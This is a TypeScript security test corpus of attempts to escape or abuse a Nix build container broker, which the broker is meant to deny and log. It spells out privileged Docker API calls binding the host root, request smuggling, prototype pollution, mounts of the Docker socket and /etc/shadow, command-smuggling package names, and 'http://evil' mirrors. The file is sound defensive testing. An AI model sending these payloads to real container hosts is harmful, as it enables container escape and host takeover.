/**
 * Attempts to get more of the broker than a build may have. To add one is to add a line. Each is made by a build
 * user who has an environment (`image`) and a folder of its own (`own`), so that only what the line says is wrong
 * with it; none may be allowed, and each must be in the broker's log.
 */

/** Things of the machine that an attempt may name. */
export interface Scene {
  /** Id of an environment's image that the attacker was given. */
  image: string;
  /** Id of an image that it was not given. */
  foreignImage: string;
  /** Id and name of a container of somebody else. */
  container: string;
  containerName: string;
  /** A folder of the attacker's, one of another build user's, and a symbolic link of the attacker's to that. */
  own: string;
  foreign: string;
  link: string;
  /** A finished path of the store, one that does not exist, and one that another build is still writing. */
  storePath: string;
  missingPath: string;
  unfinishedPath: string;
  /** A folder in which Nix keeps another build's unfinished outputs. */
  chroot: string;
  /** A system that the policy has, as lib/ writes it. */
  system: Record<string, unknown>;
}

/** What is sent: pieces, one after another. Text is sent as its bytes. */
type Sent = (string | Buffer)[];

export interface Attempt {
  name: string;
  sent: (scene: Scene) => Sent;
}

/** A frame as helper/src/broker/frames.ts describes it, written here once more: the test is no friend of the code. */
export function frame(kind: number, payload: string | Buffer, length?: number): Buffer {
  const data = Buffer.from(payload);
  const header = Buffer.alloc(5);
  header[0] = kind;
  header.writeUInt32BE(length ?? data.length, 1);
  return Buffer.concat([header, data]);
}

/** A request for a container that is allowed as it is. */
export const allowedRun = ({ image, own, storePath }: Scene) => ({
  version: 1,
  want: "run",
  image,
  command: ["/bin/sh", "-c", "cat /build/secret /etc/hostname; sleep 1"],
  env: { A: "b" },
  mounts: [
    { source: own, target: "/build", readOnly: false },
    { source: storePath, target: storePath, readOnly: true },
  ],
  foundations: [],
  network: false,
  limits: { memory: null, cpus: null, pids: 100 },
  firstInput: "",
});

/** A request for an environment that is allowed as it is. */
export const allowedEnvironment = ({ system }: Scene) => ({
  version: 1,
  want: "environment",
  system,
  layers: [[]],
  maxAge: 86400,
  lock: null,
});

type Change = Record<string, unknown>;
type Of<T> = T | ((scene: Scene) => T);
const given = <T>(value: Of<T>, scene: Scene): T =>
  typeof value === "function" ? (value as (scene: Scene) => T)(scene) : value;

/** The allowed request with other or more fields. */
const run = (name: string, change: Of<Change>): Attempt => ({
  name: `run: ${name}`,
  sent: (scene) => [frame(1, JSON.stringify({ ...allowedRun(scene), ...given(change, scene) }))],
});
const environment = (name: string, change: Of<Change>): Attempt => ({
  name: `environment: ${name}`,
  sent: (scene) => [frame(1, JSON.stringify({ ...allowedEnvironment(scene), ...given(change, scene) }))],
});
const system = (name: string, change: Change): Attempt =>
  environment(name, (scene) => ({ system: { ...scene.system, ...change } }));
const packages = (name: string): Attempt =>
  environment(`package ${JSON.stringify(name).slice(0, 60)}`, { layers: [[name]] });
/** The allowed request as text that is changed. */
const text = (name: string, change: (json: string) => string | Buffer): Attempt => ({
  name: `text: ${name}`,
  sent: (scene) => [frame(1, change(JSON.stringify(allowedRun(scene))))],
});
const raw = (name: string, sent: Of<Sent>): Attempt => ({
  name: `bytes: ${name}`,
  sent: (scene) => given(sent, scene),
});
const mount = (name: string, change: Of<Change>): Attempt =>
  run(`mount ${name}`, (scene) => ({
    mounts: [{ source: scene.own, target: "/build", readOnly: false, ...given(change, scene) }],
  }));
const foundation = (name: string, change: Change): Attempt =>
  run(`foundation ${name}`, {
    mounts: [],
    foundations: [{ path: "build/", mode: 0o755, owner: "build", content: { type: "Directory" }, ...change }],
  });
const http = (line: string, body?: Of<unknown>, headers = ""): Attempt => ({
  name: `engine: ${line}${body === undefined ? "" : `, ${JSON.stringify(body).slice(0, 80)}`}`,
  sent: (scene) => {
    const json = body === undefined ? "" : JSON.stringify(given(body, scene));
    const filled = line.replace("CONTAINER", scene.container).replace("NAME", scene.containerName);
    const short = filled.replace("PREFIX", scene.container.slice(0, 6));
    return [
      `${short} HTTP/1.1\r\nHost: engine\r\nContent-Type: application/json\r\n${headers}Content-Length: ${Buffer.byteLength(json)}\r\n\r\n${json}`,
    ];
  },
});

const privileged = { Image: "debian", Cmd: ["sh"], HostConfig: { Privileged: true, Binds: ["/:/host"] } };
const create = "POST /v1.41/containers/create";

export const corpus: Attempt[] = [
  // The engine's own API, in every spelling: there is none of it here.
  http("GET /_ping"),
  http("GET /version"),
  http("GET /info"),
  http("GET /v1.41/containers/json?all=1"),
  http("GET /containers/CONTAINER/json"),
  http("GET /containers/PREFIX/json"),
  http("GET /containers/NAME/json"),
  http("GET /containers/CONTAINER/archive?path=/etc/shadow"),
  http("PUT /containers/CONTAINER/archive?path=/"),
  http("GET /containers/CONTAINER/export"),
  http("GET /containers/CONTAINER/logs?stdout=1"),
  http("GET /containers/CONTAINER/top"),
  http("POST /containers/CONTAINER/attach?stream=1&stdin=1", {}, "Connection: Upgrade\r\nUpgrade: tcp\r\n"),
  http(
    "GET /containers/CONTAINER/attach/ws?stream=1",
    undefined,
    "Connection: Upgrade\r\nUpgrade: websocket\r\n",
  ),
  http("POST /containers/CONTAINER/exec", { Cmd: ["sh"], User: "0", Privileged: true }),
  http("POST /exec/0000/start", { Detach: true }),
  http("POST /containers/CONTAINER/kill"),
  http("POST /containers/NAME/stop"),
  http("POST /containers/CONTAINER/update", { Memory: 1e12 }),
  http("POST /containers/CONTAINER/rename?name=mine"),
  http("POST /containers/CONTAINER/wait"),
  http("DELETE /containers/CONTAINER?force=1"),
  http("POST /containers/prune"),
  http(create, privileged),
  http(create, { ...privileged, HostConfig: { Privileged: false, Privileged_: true } }),
  http("POST /containers/create", { ...privileged, HostConfig: { privileged: true } }),
  http("POST //containers//create", privileged),
  http("POST /%63ontainers/create", privileged),
  http("POST /containers/%63reate", privileged),
  http("POST /v1.24/containers/create", privileged),
  http("POST /v1.41/../containers/create", privileged),
  http("POST /v99.99/containers/create", privileged),
  http("POST http://engine/containers/create", privileged),
  http("POST /containers/create?name=nix-voyager-build-1", privileged),
  http(create, { ...privileged, HostConfig: { Devices: [{ PathOnHost: "/dev/sda" }] } }),
  http(create, { ...privileged, HostConfig: { PidMode: "host", NetworkMode: "host", IpcMode: "host" } }),
  http("POST /build?remote=x"),
  http("POST /session", undefined, "Connection: Upgrade\r\nUpgrade: h2c\r\n"),
  http("POST /grpc", undefined, "Connection: Upgrade\r\nUpgrade: h2c\r\n"),
  http("POST /images/create?fromImage=debian"),
  http("POST /images/load"),
  http("GET /images/get?names=debian"),
  http("GET /images/json"),
  http("DELETE /images/debian?force=1"),
  http("POST /images/prune"),
  http("POST /commit?container=CONTAINER&repo=nix-voyager/base"),
  http("POST /volumes/create", { Driver: "local", DriverOpts: { type: "none", o: "bind", device: "/" } }),
  http("GET /volumes"),
  http("POST /networks/create", { Name: "host2", Driver: "macvlan" }),
  http("POST /plugins/pull?remote=x"),
  http("POST /plugins/x/enable"),
  http("POST /swarm/init", { ListenAddr: "127.0.0.1" }),
  http("POST /services/create", { Name: "x" }),
  http("GET /secrets"),
  http("GET /configs"),
  http("GET /nodes"),
  http("GET /events"),
  http("GET /system/df"),
  http("POST /auth", { username: "a", password: "b" }),
  raw("chunked body", [
    `${create} HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: chunked\r\n\r\n2\r\n{}\r\n0\r\n\r\n`,
  ]),
  raw("two lengths and a hidden request", [
    `POST /_ping HTTP/1.1\r\nHost: a\r\nContent-Length: 6\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n${create} HTTP/1.1\r\n\r\n`,
  ]),
  raw("two requests over one connection", [
    "GET /_ping HTTP/1.1\r\nHost: a\r\n\r\n",
    `${create} HTTP/1.1\r\nHost: a\r\nContent-Length: 2\r\n\r\n{}`,
  ]),
  raw("HTTP/1.0", [`${create} HTTP/1.0\r\n\r\n`]),
  raw("HTTP/2", ["PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"]),
  raw("bare line feeds", [`${create} HTTP/1.1\nHost: a\n\n`]),
  raw("TLS", [Buffer.from("1603010200010001fc0303", "hex")]),
  raw("D-Bus", ["\0AUTH EXTERNAL 30\r\n"]),
  raw("a long header", [`GET / HTTP/1.1\r\nX: ${"x".repeat(100_000)}\r\n\r\n`]),
  // Frames that are none, or come when they may not.
  raw("nothing", []),
  raw("a frame of kind 0", [frame(0, "{}")]),
  raw("a frame of kind 255", [frame(255, "{}")]),
  raw("output, as only the broker sends it", [frame(0x11, "x")]),
  raw("an event, as only the broker sends it", [frame(0x13, '{"event":"started","seconds":0}')]),
  raw("input before the request", [frame(2, "x")]),
  raw("kill before the request", [frame(5, "")]),
  raw("a question before the request", [frame(4, "")]),
  raw("an empty request", [frame(1, "")]),
  raw("a request of 4 GB", [frame(1, "x", 0xffffffff)]),
  raw("a request that is a byte too long", [frame(1, "{}", 4 * 1024 * 1024 + 1)]),
  raw("half a header", [Buffer.from([1, 0, 0])]),
  raw("half a request", [frame(1, "{", 100)]),
  raw("a second request in the same piece", (scene) => [
    Buffer.concat([frame(1, "{}"), frame(1, JSON.stringify(allowedRun(scene)))]),
  ]),
  raw("a request behind HTTP", (scene) => [
    `GET / HTTP/1.1\r\n\r\n`,
    frame(1, JSON.stringify(allowedRun(scene))),
  ]),
  raw("a request that is followed by input at once", (scene) => [
    Buffer.concat([
      frame(1, JSON.stringify({ ...allowedRun(scene), image: scene.foreignImage })),
      frame(2, "x"),
    ]),
  ]),
  // JSON that two readers could read in two ways, or that is none.
  text("no JSON", () => "want=run"),
  text("an array", (json) => `[${json}]`),
  text("null", () => "null"),
  text("a number", () => "1"),
  text("very deep", () => "[".repeat(100_000)),
  text("a name twice, the allowed one last", (json) =>
    json.replace('"network":', '"network":true,"network":'),
  ),
  text("a name twice, the allowed one first", (json) => json.replace("}],", '}],"network":true,')),
  text("a name twice within a mount", (json) =>
    json.replace('"readOnly":false', '"readOnly":true,"readOnly":false'),
  ),
  text("a name twice, once escaped", (json) => json.replace('"network":', '"netwo\\u0072k":true,"network":')),
  text("an escaped name", (json) => json.replace('"network":', '"netwo\\u0072k":')),
  text("spaces", (json) => `${json} `),
  text("a line before it", (json) => `\n${json}`),
  text("a byte-order mark", (json) => `\uFEFF${json}`),
  text("a comment", (json) => json.replace("{", "{/* */")),
  text("__proto__", (json) => json.replace("{", '{"__proto__":{"network":true},')),
  text("constructor", (json) => json.replace("{", '{"constructor":{"prototype":{"network":true}},')),
  text("invalid UTF-8", (json) => Buffer.concat([Buffer.from(json.slice(0, -1)), Buffer.from([0xff, 0x7d])])),
  text("a number in another notation", (json) => json.replace('"pids":100', '"pids":1e2')),
  text("more after it", (json) => json + json),
  run("no version", { version: undefined }),
  run("version 0", { version: 0 }),
  run("version 2", { version: 2 }),
  run("version as text", { version: "1" }),
  run("wants to be something else", { want: "exec" }),
  run("wants a commit", { want: "commit" }),
  run("wants everything", { want: ["run", "environment"] }),
  // Fields that there are not, in the names of engines and in ours.
  ...["privileged", "Privileged", "PRIVILEGED"].map((name) => run(name, { [name]: true })),
  run("HostConfig", { HostConfig: { Privileged: true } }),
  run("hostConfig", { hostConfig: { Binds: ["/:/host"] } }),
  run("Binds", { Binds: ["/:/host"] }),
  run("capabilities", { CapAdd: ["ALL"] }),
  run("capAdd", { capAdd: ["SYS_ADMIN"] }),
  run("privileges of a package manager", { privilegesOfPackageManager: true }),
  run("devices", { devices: ["/dev/mem"] }),
  run("security options", { securityOpt: ["seccomp=unconfined", "apparmor=unconfined"] }),
  run("user root", { user: "0:0" }),
  run("User", { User: "0" }),
  run("identity", { identity: { uid: 0, gid: 0 } }),
  run("process namespace of the host", { pidMode: "host" }),
  run("IPC of the host", { ipcMode: "host" }),
  run("UTS of the host", { utsMode: "host" }),
  run("users of the host", { usernsMode: "host" }),
  run("control groups of the host", { cgroupnsMode: "host" }),
  run("a parent of control groups", { cgroupParent: "/" }),
  run("another runtime", { runtime: "kata" }),
  run("sysctls", { sysctls: { "net.ipv4.ip_forward": "1" } }),
  run("labels of another's", { labels: { "nix-voyager.user": "nixbld1" } }),
  run("a name", { name: "nix-voyager-environment-1" }),
  run("volumes", { volumes: [{ name: "nix-voyager-packages-1", target: "/v" }] }),
  run("a pause of the engine's lifeline", { stdinOnce: false }),
  run("restarts", { restartPolicy: "always" }),
  run("an archive", { files: "AAAA" }),
  run("working folder", { workingDirectory: "/" }),
  run("a tmpfs", { tmpfs: { "/run": "exec" } }),
  // Fields that there are.
  run("a network, in a build that Nix gave none", { network: true }),
  run("the network of the host", { network: "host" }),
  run("an image by name", { image: "debian:12" }),
  run("an image by its short id", ({ image }) => ({ image: image.slice(0, 19) })),
  run("an image that it was not given", ({ foreignImage }) => ({ image: foreignImage })),
  run("an image by its container", ({ container }) => ({ image: `sha256:${container}` })),
  run("no command", { command: [] }),
  run("a command as text", { command: "sh -c id" }),
  run("a zero byte", { command: ["sh\0-c"] }),
  run("a variable's name with its value", { env: { "A=B": "c" } }),
  run("variables as a list", { env: ["LD_PRELOAD=x"] }),
  run("more memory than allowed", { limits: { memory: 1e15, cpus: null, pids: 100 } }),
  run("no memory at all", { limits: { memory: 0, cpus: null, pids: 100 } }),
  run("negative memory", { limits: { memory: -1, cpus: null, pids: 100 } }),
  run("more processes than allowed", { limits: { memory: null, cpus: null, pids: 10_000_000 } }),
  run("unlimited processes", { limits: { memory: null, cpus: null, pids: -1 } }),
  run("more processors than allowed", { limits: { memory: null, cpus: 1e6, pids: 100 } }),
  run("a limit that there is not", { limits: { memory: null, cpus: null, pids: 100, swap: 1 } }),
  run("limits left out", { limits: {} }),
  run("a long first input", { firstInput: "x".repeat(2000) }),
  // Mounts.
  mount("of the root", { source: "/" }),
  mount("of /etc", { source: "/etc" }),
  mount("of the whole store, to write", { source: "/nix/store" }),
  mount("of the store's database", { source: "/nix/var/nix/db" }),
  mount("of the engine's socket", { source: "/var/run/docker.sock" }),
  mount("of the engine's folder", { source: "/var/lib/docker" }),
  mount("of the broker's own folder", { source: "/run/nix-voyager-broker" }),
  mount("of process 1's root", { source: "/proc/1/root" }),
  mount("of a process's open files", { source: "/proc/self/fd" }),
  mount("of devices", { source: "/dev" }),
  mount("of the kernel's", { source: "/sys" }),
  mount("of another build's folder", ({ foreign }) => ({ source: foreign })),
  mount("of a link to another build's folder", ({ link }) => ({ source: link })),
  mount("below a link", ({ link }) => ({ source: `${link}/inside` })),
  mount("by way of a folder above", ({ own, foreign }) => ({ source: `${own}/..${foreign}` })),
  mount("with dots", ({ own }) => ({ source: `${own}/.` })),
  mount("with a slash at the end", ({ own }) => ({ source: `${own}/` })),
  mount("with two slashes", ({ own }) => ({ source: `/${own}` })),
  mount("of a relative path", { source: "etc" }),
  mount("with a zero byte", ({ own }) => ({ source: `${own}\0/etc` })),
  mount("of a finished store path, to write", ({ storePath }) => ({ source: storePath, target: storePath })),
  mount("of a store path, at the build's folder", ({ storePath }) => ({ source: storePath })),
  mount("over the system's programs", { target: "/usr/bin" }),
  mount("over /etc", { target: "/etc" }),
  mount("over the root", { target: "/" }),
  mount("over a folder of the store", { target: "/nix/store" }),
  mount("over a path above", { target: "/build/../usr" }),
  mount("with propagation", { propagation: "rshared" }),
  mount("that is a volume", { type: "volume" }),
  mount("to read, of another's file as /etc/passwd", {
    source: "/etc/shadow",
    target: "/etc/passwd",
    readOnly: true,
  }),
  mount("to read, at /etc/sudoers", ({ own }) => ({
    source: `${own}/secret`,
    target: "/etc/sudoers",
    readOnly: true,
  })),
  mount("to write, of /etc/passwd", ({ own }) => ({
    source: `${own}/secret`,
    target: "/etc/passwd",
    readOnly: false,
  })),
  mount("to read, of one store path as another", ({ storePath, missingPath }) => ({
    source: storePath,
    target: missingPath,
    readOnly: true,
  })),
  mount("to read, of an unfinished store path", ({ unfinishedPath }) => ({
    source: unfinishedPath,
    target: unfinishedPath,
    readOnly: true,
  })),
  mount("to read, of another build's sandbox", ({ chroot }) => ({
    source: chroot,
    target: chroot,
    readOnly: true,
  })),
  mount("to read, of a store path by way of another build's sandbox", ({ chroot, unfinishedPath }) => ({
    source: `${chroot}${unfinishedPath}`,
    target: unfinishedPath,
    readOnly: true,
  })),
  run("very many mounts of its own", ({ own }) => ({
    mounts: Array.from({ length: 65 }, (_, number) => ({
      source: own,
      target: `/nix/store/${String(number).padStart(32, "0")}-x`,
      readOnly: false,
    })),
  })),
  mount("to read, below a store path", ({ storePath }) => ({
    source: `${storePath}/bin`,
    target: `${storePath}/bin`,
    readOnly: true,
  })),
  mount("to read, above the store", ({ storePath }) => ({
    source: `${storePath}/../../../etc`,
    target: `${storePath}/../../../etc`,
    readOnly: true,
  })),
  mount("to read, of a root's folder at the build's", { source: "/root", readOnly: true }),
  run("two mounts at one place", ({ own }) => ({
    mounts: [1, 2].map(() => ({ source: own, target: "/build", readOnly: false })),
  })),
  run("mounts that are none", { mounts: [null] }),
  // Files that are put into a container as root.
  foundation("of a program", { path: "usr/bin/sudo", owner: "root", content: { type: "File", text: "" } }),
  foundation("of /etc/shadow", { path: "etc/shadow", owner: "root", content: { type: "File", text: "" } }),
  foundation("with setuid", { mode: 0o4755 }),
  foundation("that all may write", { mode: 0o777 }),
  foundation("that is a device", { content: { type: "CharacterDevice", major: 1, minor: 1 } }),
  foundation("that is a hard link", { content: { type: "Link", target: "/etc/shadow" } }),
  foundation("that is a link at /etc/passwd", {
    path: "etc/passwd",
    owner: "root",
    content: { type: "SymbolicLink", target: "/proc/1/environ" },
  }),
  foundation("that is a link at the store", {
    path: "nix/store",
    owner: "root",
    content: { type: "SymbolicLink", target: "/etc" },
  }),
  foundation("that is a file at the build's folder", { path: "build", content: { type: "File", text: "" } }),
  run("foundations where something is mounted", {
    foundations: [{ path: "build/", mode: 0o755, owner: "build", content: { type: "Directory" } }],
  }),
  foundation("above", { path: "build/../etc/cron.d" }),
  foundation("below /", { path: "/build" }),
  foundation("of another user", { owner: "nixbld2" }),
  foundation("in root's store", { path: "nix/store", owner: "build" }),
  foundation("in a store path of root's", { path: `nix/store/${"0".repeat(32)}-x`, owner: "root" }),
  run("a foundation twice", {
    mounts: [],
    foundations: [1, 2].map(() => ({
      path: "build/",
      mode: 0o755,
      owner: "build",
      content: { type: "Directory" },
    })),
  }),
  // Environments: their input is run as root.
  ...[
    "gcc; id",
    "$(id)",
    "`id`",
    "gcc\nid",
    "-oAPT::Update::Pre-Invoke::=id",
    "--allow-unauthenticated",
    "../x",
    "gcc id",
    "gcc/..",
    "",
    "gcc-",
    "'",
    "gcc\0",
  ].map(packages),
  system("another set-up", { setup: "id >/tmp/owned" }),
  system("another image", { image: { reference: "evil:latest", bootstrap: null } }),
  system("an image with another recipe", {
    image: {
      reference: null,
      bootstrap: {
        tool: "mmdebstrap",
        suite: "bookworm",
        components: ["main"],
        mirror: "http://evil",
        include: [],
      },
    },
  }),
  system("a tool of the host", {
    image: {
      reference: null,
      bootstrap: { tool: "sh", suite: "bookworm", components: ["main"], mirror: null, include: [] },
    },
  }),
  system("another repository", {
    repositories: [{ name: "evil", uri: "http://evil", suites: ["./"], components: [], key: null }],
  }),
  system("a repository whose name is a path", {
    repositories: [{ name: "../../x", uri: "u", suites: ["./"], components: [], key: null }],
  }),
  system("a key that is a file of the host", {
    repositories: [{ name: "a", uri: "u", suites: ["./"], components: [], key: "/etc/shadow" }],
  }),
  system("a certificate that is above the store", {
    certificates: [`/nix/store/${"0".repeat(32)}-x/../../../etc/shadow`],
  }),
  system("a proxy", { proxy: { http: "http://evil", https: null, noProxy: null } }),
  system("another package manager", { packageManager: "sh" }),
  system("a name that is a path", { name: "../x" }),
  system("a field that there is not", { privileged: true }),
  environment("no system", { system: null }),
  environment("a negative age", { maxAge: -1 }),
  environment("a lock that is a file of the host", { lock: { file: "/etc/shadow", packages: null } }),
  environment("a lock that is above the store", {
    lock: { file: `/nix/store/${"0".repeat(32)}-x/../../../etc/shadow`, packages: null },
  }),
  environment("a lock in another build's sandbox", ({ chroot }) => ({
    lock: { file: `${chroot}/lock`, packages: null },
  })),
  ...["", "/", "/0123456789abcdfghijklmnpqrsvwxyz-"].map((part) =>
    environment(`a very long path, of ${JSON.stringify(part)}`, {
      lock: { file: `/nix/store/${(part || "x").repeat(3_500_000 / (part.length || 1))}`, packages: null },
    }),
  ),
  environment("a lock with packages of its own", ({ storePath }) => ({
    lock: { file: storePath, packages: storePath },
  })),
  environment("an engine", { engine: "unix:///var/run/docker.sock" }),
  environment("a network", { network: "host" }),
];
